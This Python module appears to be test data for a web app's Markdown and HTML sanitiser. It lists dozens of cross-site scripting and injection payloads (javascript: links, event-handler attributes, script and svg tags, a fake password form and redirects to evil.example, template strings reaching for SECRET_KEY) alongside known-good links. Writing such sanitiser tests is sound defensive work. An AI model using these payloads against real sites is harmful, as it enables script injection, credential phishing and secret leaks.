"""What attackers write."""

# Texts that would run, load, send or reshape something if a page took them at their word.
MARKDOWN = {
    "javascript link": "[x](javascript:alert(1))",
    "javascript in mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript with an entity": "[x](JaVa&#9;script:alert(1))",
    "javascript with named entities": "[x](javascript&colon;alert&lpar;1&rpar;)",
    "javascript with a control character": "[x](\x01javascript:alert(1))",
    "javascript after a blank": "[x](<  javascript:alert(1)>)",
    "javascript in angle brackets": "<javascript:alert(1)>",
    "javascript by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript, percent-encoded": "[x](javascript%3aalert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "file link": "[x](file:///etc/passwd)",
    "blob link": "[x](blob:http://testserver/1)",
    "link to another site without scheme": "[x](//evil.example) [y](/\\evil.example)",
    "handler in an image's text": '![a" onerror=alert(1) "](x)',
    "handler in an image's address": '![a](x" onerror="alert(1))',
    "handler in a title": "[x](https://a.example 'b\" onmouseover=\"alert(1)')",
    "image from elsewhere": "![x](https://evil.example/pixel.png)",
    "javascript image": "![x](javascript:alert(1))",
    "handler in an address": 'https://a.example/"onmouseover="alert(1)',
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "iframe": '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="//evil.example"><input name="password"><button>Sign in</button></form>',
    "base": '<base href="//evil.example">',
    "style": "<style>body { display: none }</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "script": "<script>alert(1)</script>",
    "script, cut off": "<script\n\n>alert(1)//",
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "object": '<object data="//evil.example"></object><embed src="//evil.example">',
    "math": '<math><mi xlink:href="data:x,<script>alert(1)</script>"></math>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "comment trick": "<!--><img src=x onerror=alert(1)>-->",
    "cdata trick": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "noscript trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "closing tags": "</div></article></li></ol></main></body></html><h1>x</h1>",
    "closing textarea": "</textarea><script>alert(1)</script>",
    "closing title": "</title><script>alert(1)</script>",
    "code fence": '``` x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "table": "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "class and id": '<a id="content" class="bar" name="csrfmiddlewaretoken" href="/">x</a>',
    "htmx": '<b hx-get="/logout/" hx-trigger="load" data-hx-post="/logout/">x</b>',
    "nested emphasis in a link": "[**<img src=x onerror=alert(1)>**](https://a.example)",
    "mention with a tag": "u/ann\"><script>alert(1)</script> b/board_a'onclick='alert(1)",
    "template language": "{{ settings.SECRET_KEY }} {% debug %} {{ 7|add:7 }}",
}

# For what is no Markdown: titles, names and searches.
PLAIN = "\"'></title></textarea></script><svg/onload=alert(1)><img src=x onerror=alert(1)>{{7}}"

# A word by which a test knows that it looks at what it wrote.
MARK = "landmark"
GOOD_LINKS = (
    "[one](https://good.example/) [two](http://good.example/) [three](mailto:a@good.example)"
)
GOOD_HREFS = {"https://good.example/", "http://good.example/", "mailto:a@good.example"}
